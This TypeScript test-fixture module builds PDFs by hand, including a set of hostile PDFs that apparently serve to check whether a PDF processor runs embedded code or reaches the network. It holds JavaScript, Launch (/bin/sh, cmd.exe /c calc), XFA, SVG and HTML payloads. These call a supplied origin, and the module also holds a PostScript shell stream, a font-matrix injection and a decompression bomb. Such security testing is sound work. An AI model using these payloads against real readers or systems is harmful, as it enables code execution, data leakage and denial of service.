// Holds PDFs written by hand, byte by byte: a plain one and those that try to run, reach, open or exhaust something.
// Must not depend on a library: what it writes is exactly what is read.
import { deflateSync } from 'node:zlib';

export type PdfParts = {
  /** Content stream of each page. */
  readonly pages?: readonly string[];
  /** Entries of the catalog, beside /Type and /Pages. */
  readonly catalog?: string;
  /** Entries of every page. */
  readonly page?: string;
  readonly mediaBox?: string;
  /** More objects, numbered from 100: `{ 100: '<< … >>' }`. */
  readonly objects?: Readonly<Record<number, string | Buffer>>;
};

export const text = (words: string, at = '72 700') => `BT /F1 24 Tf ${at} Td (${words.replace(/[\\()]/g, '\\$&')}) Tj ET`;

export function writePdf({
  pages = [text('Hola')],
  catalog = '',
  page = '',
  mediaBox = '0 0 612 792',
  objects = {},
}: PdfParts = {}): Buffer {
  const all = new Map<number, string | Buffer>();
  const kids = pages.map((_content, index) => `${10 + index * 2} 0 R`).join(' ');
  all.set(1, `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`);
  all.set(2, `<< /Type /Pages /Kids [${kids}] /Count ${pages.length} >>`);
  all.set(3, '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>');
  for (const [index, content] of pages.entries()) {
    all.set(
      10 + index * 2,
      `<< /Type /Page /Parent 2 0 R /MediaBox [${mediaBox}] /Resources << /Font << /F1 3 0 R >> >> /Contents ${11 + index * 2} 0 R ${page} >>`,
    );
    all.set(11 + index * 2, stream(content));
  }
  for (const [number, body] of Object.entries(objects)) all.set(Number(number), body);

  const pieces: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  const offsets = new Map<number, number>();
  let length = pieces[0]?.length ?? 0;
  const add = (piece: Buffer) => {
    pieces.push(piece);
    length += piece.length;
  };
  for (const [number, body] of [...all].sort(([a], [b]) => a - b)) {
    offsets.set(number, length);
    add(
      Buffer.concat([
        Buffer.from(`${number} 0 obj\n`),
        Buffer.isBuffer(body) ? body : Buffer.from(body, 'latin1'),
        Buffer.from('\nendobj\n'),
      ]),
    );
  }
  const size = Math.max(...all.keys()) + 1;
  const start = length;
  const line = (number: number) =>
    offsets.has(number) ? `${String(offsets.get(number)).padStart(10, '0')} 00000 n \n` : '0000000000 00000 f \n';
  add(
    Buffer.from(
      `xref\n0 ${size}\n${Array.from({ length: size }, (_none, number) => (number === 0 ? '0000000000 65535 f \n' : line(number))).join('')}`,
    ),
  );
  add(Buffer.from(`trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`));
  return Buffer.concat(pieces);
}

export function stream(content: string | Buffer, entries = ''): Buffer {
  const bytes = Buffer.isBuffer(content) ? content : Buffer.from(content, 'latin1');
  return Buffer.concat([Buffer.from(`<< /Length ${bytes.length} ${entries} >>\nstream\n`), bytes, Buffer.from('\nendstream')]);
}

/** Compressed so that a small file unfolds into `unit` times `times`. */
export const bomb = (unit: string, times: number, entries = '') =>
  stream(deflateSync(Buffer.alloc(unit.length * times, unit)), `/Filter /FlateDecode ${entries}`);

/** Each tries something when it is opened, looked at or clicked; `origin` is where it would be heard. */
export function hostilePdfs(origin: string): Readonly<Record<string, Buffer>> {
  const js = (code: string) => `<< /S /JavaScript /JS (${code.replace(/[\\()]/g, '\\$&')}) >>`;
  const reach = `app.launchURL('${origin}/js', true); this.submitForm('${origin}/submit'); app.alert('x'); Net.HTTP.request({cURL: '${origin}/net', cVerb: 'GET'}); this.exportDataObject({cName: 'x', nLaunch: 2}); globalThis.ran = true; fetch('${origin}/fetch')`;
  const action = (entry: string) => ({
    catalog: `/OpenAction ${entry} /AA << /WC ${entry} /WS ${entry} /DP ${entry} >>`,
    page: `/AA << /O ${entry} /C ${entry} >> /Annots [100 0 R]`,
    objects: { 100: `<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A ${entry} >>` },
  });
  const form = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.0/"><subform name="a"><pageSet><pageArea><contentArea/><medium stock="letter"/></pageArea></pageSet><draw><value><image href="${origin}/xfa.png"/></value></draw><field name="f"><event activity="initialize"><script contentType="application/x-javascript">${reach}</script></event></field></subform></template></xdp:xdp>`;
  return {
    'JavaScript at opening': writePdf(action(js(reach))),
    'JavaScript in the name tree': writePdf({ catalog: `/Names << /JavaScript << /Names [(a) ${js(reach)}] >> >>` }),
    'JavaScript in a form field': writePdf({
      catalog: '/AcroForm << /Fields [100 0 R] /NeedAppearances true /CO [100 0 R] >>',
      page: '/Annots [100 0 R]',
      objects: {
        100: `<< /Type /Annot /Subtype /Widget /FT /Tx /T (f) /V (x) /Rect [50 50 300 90] /DA (/F1 12 Tf) /AA << /F ${js(reach)} /C ${js(reach)} /K ${js(reach)} /V ${js(reach)} /PO ${js(reach)} /PV ${js(reach)} >> >>`,
      },
    }),
    'URI action': writePdf(action(`<< /S /URI /URI (${origin}/uri) >>`)),
    'Launch action': writePdf(
      action('<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> /Unix (touch /tmp/acuse-launched) >>'),
    ),
    'GoToR to another file': writePdf(action(`<< /S /GoToR /F << /FS /URL /F (${origin}/other.pdf) >> /D [0 /Fit] >>`)),
    'SubmitForm action': writePdf(action(`<< /S /SubmitForm /F << /FS /URL /F (${origin}/form) >> /Flags 4 >>`)),
    'ImportData action': writePdf(action(`<< /S /ImportData /F << /FS /URL /F (${origin}/data.fdf) >> >>`)),
    'content in an outside file': writePdf({
      objects: { 11: Buffer.from(`<< /Length 0 /F << /FS /URL /F (${origin}/content) >> >>\nstream\n\nendstream`) },
    }),
    'embedded HTML': writePdf({
      catalog: '/Names << /EmbeddedFiles << /Names [(x.html) 100 0 R] >> >> /AF [100 0 R]',
      objects: {
        100: '<< /Type /Filespec /F (x.html) /EF << /F 101 0 R >> >>',
        101: stream(`<script>fetch('${origin}/html')</script>`, '/Type /EmbeddedFile /Subtype /text#2Fhtml'),
      },
    }),
    'rich media': writePdf({
      page: '/Annots [100 0 R]',
      objects: {
        100: `<< /Type /Annot /Subtype /RichMedia /Rect [0 0 600 700] /RichMediaContent << /Assets << /Names [(x.svg) 101 0 R] >> >> >>`,
        101: '<< /Type /Filespec /F (x.svg) /EF << /F 102 0 R >> >>',
        102: stream(
          `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${origin}/svg')"><script>fetch('${origin}/svg')</script></svg>`,
          '/Subtype /image#2Fsvg+xml',
        ),
      },
    }),
    'XFA form with script': writePdf({
      catalog: '/AcroForm << /Fields [] /XFA 100 0 R >> /NeedsRendering true',
      objects: { 100: stream(form) },
    }),
    'HTML in text and title': writePdf({
      pages: [text(`<img src=x onerror="fetch('${origin}/text')"><script>fetch('${origin}/text')</script>`)],
      catalog: '/Lang (<script>)',
    }),
    'outside typeface and picture': writePdf({
      pages: [`${text('x')} /Im Do`],
      page: '/Resources << /Font << /F1 100 0 R >> /XObject << /Im 101 0 R >> >>',
      objects: {
        100: `<< /Type /Font /Subtype /TrueType /BaseFont /Evil /FontDescriptor 102 0 R >>`,
        101: Buffer.from(
          `<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /Length 0 /F << /FS /URL /F (${origin}/image) >> /FFilter /DCTDecode >>\nstream\n\nendstream`,
        ),
        102: `<< /Type /FontDescriptor /FontName /Evil /Flags 4 /FontFile2 103 0 R >>`,
        103: Buffer.from(`<< /Length 0 /F << /FS /URL /F (${origin}/font) >> >>\nstream\n\nendstream`),
      },
    }),
    'PostScript and Type 3 code': writePdf({
      page: '/Resources << /Font << /F1 100 0 R >> /XObject << /Ps 102 0 R >> >>',
      pages: ['/Ps Do BT /F1 20 Tf 50 50 Td (a) Tj ET'],
      objects: {
        100: '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 0 0 1 0 0] /CharProcs << /a 101 0 R >> /Encoding << /Differences [97 /a] >> /FirstChar 97 /LastChar 97 /Widths [1] >>',
        101: stream('1 0 d0 0 0 1 1 re f'),
        102: stream('(/bin/sh) (r) file run', '/Type /XObject /Subtype /PS'),
      },
    }),
    'a function that would be code': writePdf({
      page: '/Resources << /Font << /F1 3 0 R >> /Shading << /S 100 0 R >> >>',
      pages: [`${text('x')} /S sh`],
      objects: {
        100: '<< /ShadingType 1 /ColorSpace /DeviceRGB /Domain [0 1 0 1] /Matrix [612 0 0 792 0 0] /Function 101 0 R >>',
        101: stream('{ 2 copy mul 1 exch sub dup }', '/FunctionType 4 /Domain [0 1 0 1] /Range [0 1 0 1 0 1]'),
      },
    }),
    'a font matrix that would be code': writePdf({
      objects: {
        3: `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontDescriptor 100 0 R >>`,
        100: `<< /Type /FontDescriptor /FontName /X /Flags 4 /FontMatrix [1 2 3 4 5 (0\\); fetch\\('${origin}/cve'\\)//)] >>`,
      },
    }),
  };
}
